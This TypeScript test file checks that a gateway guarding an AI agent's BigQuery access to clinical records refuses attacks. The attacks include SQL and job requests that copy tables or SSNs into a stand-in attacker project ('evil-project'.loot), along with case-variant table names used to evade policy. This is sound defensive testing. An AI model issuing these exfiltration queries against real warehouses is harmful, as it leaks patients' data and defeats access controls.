/**
 * Threat-model rows 9, 18 and 37 by names: elsewhere than where the gateway looks, and other spellings of what it knows, for an agent whose policies
 * permit whatever isn't of the record (`permit (principal, action, resource) unless { … }`).
 */
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { PROJECT } from "../rig.ts";
import { assertQueryRefused, assertRefused, jobsRunUpstream, withPatients } from "./attacker.ts";
import { type OpenClinic, openClinic } from "./open-clinic.ts";

const ANYWHERE = `
@id("anywhere-but-the-record")
@mask("none")
@approval("none")
permit (principal in Group::"clinical-agents", action, resource)
unless { resource in Dataset::"${PROJECT}.ehr" };

@id("administers")
@approval("none")
permit (principal in Group::"clinical-agents", action == Action::"administer", resource);

@id("never-the-list")
forbid (principal, action == Action::"write", resource in Table::"${PROJECT}.directory.providers");
`;
const V2 = `/bigquery/v2/projects/${PROJECT}`;
const ELSEWHERE = "`evil-project`.loot";

describe("an agent that is permitted whatever isn't of the record", () => {
  let clinic: OpenClinic;
  before(async () => {
    clinic = await openClinic({ "anywhere.cedar": () => ANYWHERE });
    await upstream("/datasets", {
      datasetReference: { projectId: PROJECT, datasetId: "folding" },
      isCaseInsensitive: true,
    });
    await upstream("/datasets/folding/tables", {
      tableReference: { projectId: PROJECT, datasetId: "folding", tableId: "Kept" },
      schema: { fields: [{ name: "a", type: "STRING" }] },
    });
  });
  after(() => clinic.close());

  /** As somebody with access of their own, past the gateway. */
  async function upstream(path: string, body: object): Promise<void> {
    const { ok } = await fetch(`${clinic.rig.warehouse.url}${V2}${path}`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify(body),
    });
    assert.ok(ok);
  }
  /** And BigQuery isn't even asked. */
  async function refusedHere(sql: string, why: RegExp): Promise<void> {
    const before = clinic.rig.warehouse.requests.length;
    const loot = await assertQueryRefused(clinic.rig, clinic.agent, withPatients(sql));
    assert.match(loot.last.body, why, sql);
    assert.ok(!clinic.rig.warehouse.requests.slice(before).some(({ method }) => method === "POST"), sql);
  }

  it("row 18: makes, fills, changes and drops nothing in a project that isn't served", async () => {
    for (const sql of [
      `CREATE TABLE ${ELSEWHERE}.t AS SELECT 1 AS x`,
      `CREATE TABLE ${ELSEWHERE}.t AS SELECT ssn FROM p`,
      `CREATE OR REPLACE TABLE ${ELSEWHERE}.t (x STRING)`,
      `CREATE TABLE ${ELSEWHERE}.t LIKE directory.providers`,
      `CREATE TABLE ${ELSEWHERE}.t COPY directory.providers`,
      `CREATE TABLE ${ELSEWHERE}.t CLONE directory.providers`,
      `CREATE SNAPSHOT TABLE ${ELSEWHERE}.t CLONE directory.providers`,
      `CREATE VIEW ${ELSEWHERE}.v AS SELECT 1 AS x`,
      `CREATE MATERIALIZED VIEW ${ELSEWHERE}.v AS SELECT COUNT(*) AS x FROM directory.providers`,
      `INSERT INTO ${ELSEWHERE}.t VALUES ('x')`,
      `SELECT 1 AS x |> INSERT INTO ${ELSEWHERE}.t`,
      `BEGIN CREATE TEMP TABLE s AS SELECT 1 AS x; CREATE TABLE ${ELSEWHERE}.t AS SELECT x FROM s; END`,
      `EXECUTE IMMEDIATE 'CREATE TABLE ${ELSEWHERE}.t AS SELECT 1 AS x'`,
      `LOAD DATA INTO ${ELSEWHERE}.t (x STRING) FROM FILES (uris = ['gs://b/*.csv'], format = 'CSV')`,
      `CREATE FUNCTION ${ELSEWHERE}.f() AS (1)`,
      `CREATE PROCEDURE ${ELSEWHERE}.q() BEGIN SELECT 1 AS x; END`,
      `DROP FUNCTION IF EXISTS ${ELSEWHERE}.f`,
      `DROP TABLE IF EXISTS ${ELSEWHERE}.t`,
      `DROP VIEW IF EXISTS ${ELSEWHERE}.v`,
      `CREATE SCHEMA ${ELSEWHERE}`,
      `ALTER SCHEMA ${ELSEWHERE} SET OPTIONS (description = 'x')`,
      `DROP SCHEMA IF EXISTS ${ELSEWHERE} CASCADE`,
      `UNDROP SCHEMA ${ELSEWHERE}`,
      "DROP MODEL IF EXISTS `evil-project`.loot.m",
    ])
      await refusedHere(sql, /a project that this gateway does not serve/);
  });

  it("row 18: nor by a job of its own: copied, extracted or loaded there, nothing is even looked for", async () => {
    const there = { projectId: "evil-project", datasetId: "loot", tableId: "t" };
    const here = { projectId: PROJECT, datasetId: "directory", tableId: "providers" };
    const schema = { fields: [{ name: "x", type: "STRING" }] };
    const before = clinic.rig.warehouse.requests.length;
    for (const configuration of [
      { copy: { sourceTable: here, destinationTable: there } },
      { copy: { sourceTable: here, destinationTable: there, writeDisposition: "WRITE_APPEND" } },
      { copy: { sourceTable: there, destinationTable: { ...here, datasetId: "workspace" } } },
      { extract: { sourceTable: there, destinationUris: ["gs://b/*.csv"] } },
      { load: { destinationTable: there, sourceUris: ["gs://b/*.csv"], schema } },
    ])
      assertRefused(await clinic.agent.send("POST", `${V2}/jobs`, { body: { configuration } }), 403);
    for (const more of [{ schema }, {}, { createDisposition: "CREATE_NEVER" }]) {
      const load = { destinationTable: there, sourceFormat: "NEWLINE_DELIMITED_JSON", ...more };
      const parts = [
        `application/json\r\n\r\n${JSON.stringify({ configuration: { load } })}`,
        'text/plain\r\n\r\n{"x":"1"}',
      ];
      assertRefused(
        await clinic.agent.send("POST", `/upload${V2}/jobs?uploadType=multipart`, {
          body: `${parts.map((part) => `--b\r\ncontent-type: ${part}\r\n`).join("")}--b--`,
          headers: { "content-type": "multipart/related; boundary=b" },
        }),
      );
    }
    const asked = clinic.rig.warehouse.requests.slice(before);
    assert.deepEqual(
      asked.filter(({ path }) => path.includes("evil-project")).map(({ method, path }) => `${method} ${path}`),
      [],
    );
  });

  it("row 37: makes no table by another spelling of one that the catalog has, past what policy says of that", async () => {
    for (const name of ["directory.Providers", "DIRECTORY.providers", "Directory.New", "ehr.Patients"]) {
      await refusedHere(`CREATE OR REPLACE TABLE ${name} AS SELECT 'x' AS a`, /write it like that/);
      await refusedHere(`CREATE OR REPLACE VIEW ${name} AS SELECT 'x' AS a`, /write it like that/);
    }
    await assertQueryRefused(
      clinic.rig,
      clinic.agent,
      "CREATE OR REPLACE TABLE directory.providers AS SELECT 'x' AS a",
    );
  });

  it("row 37: finds, reads and makes nothing in a dataset whose names ignore case", async () => {
    for (const sql of [
      "SELECT a FROM folding.Kept",
      "SELECT a FROM folding.kept",
      "SELECT a FROM `demo-clinic.folding.K*`",
      "CREATE TABLE folding.taken AS SELECT ssn AS s FROM p",
      "CREATE OR REPLACE TABLE folding.kept AS SELECT 'x' AS a",
      "INSERT INTO folding.kept VALUES ('x')",
      "DROP TABLE folding.kept",
      "CREATE VIEW folding.v AS SELECT 1 AS x",
      "CREATE FUNCTION folding.f() AS (1)",
    ])
      await refusedHere(sql, /ignore case/);
    for (const [method, path, body] of [
      ["GET", "", undefined],
      ["GET", "/tables/Kept", undefined],
      ["GET", "/tables/kept", undefined],
      ["GET", "/tables/kept/data", undefined],
      ["POST", "/tables/kept/insertAll", { rows: [{ json: { a: "x" } }] }],
      ["PATCH", "/tables/kept", { description: "x" }],
      ["DELETE", "/tables/kept", undefined],
    ] as const)
      assertRefused(
        await clinic.agent.send(method, `${V2}/datasets/folding${path}`, body === undefined ? {} : { body }),
        404,
      );
    const listed = await clinic.agent.send("GET", `${V2}/datasets`);
    assert.match(listed.body, /"workspace"/);
    assert.doesNotMatch(listed.body, /folding/);
    assert.doesNotMatch((await clinic.agent.send("GET", `${V2}/datasets/folding/tables`)).body, /kept/i);
    const described = await clinic.agent.attack("SELECT table_name FROM folding.INFORMATION_SCHEMA.TABLES");
    assert.deepEqual(described.rows, []);
  });

  it("row 37: makes no dataset's names ignore case", async () => {
    for (const sql of [
      "ALTER SCHEMA workspace SET OPTIONS (is_case_insensitive = TRUE)",
      "ALTER SCHEMA workspace SET OPTIONS (IS_CASE_INSENSITIVE = TRUE)",
      "CREATE SCHEMA another OPTIONS (is_case_insensitive = TRUE)",
    ])
      await refusedHere(sql, /Option is_case_insensitive of SCHEMA is not supported/i);
  });

  it("row 9: what is served is written as before", async () => {
    const before = jobsRunUpstream(clinic.rig);
    for (const sql of [
      "CREATE TABLE workspace.mine AS SELECT 1 AS x",
      "CREATE TABLE workspace.Mine (x STRING)",
      "BEGIN CREATE TEMP TABLE s AS SELECT 1 AS x; INSERT INTO workspace.mine SELECT x FROM s; DROP TABLE s; END",
      "CREATE FUNCTION workspace.one() AS (1)",
      "DROP FUNCTION workspace.one",
      "DROP TABLE workspace.Mine",
    ])
      assert.equal((await clinic.agent.attack(sql)).session?.state, "done", sql);
    assert.equal(jobsRunUpstream(clinic.rig), before + 6);
  });
});
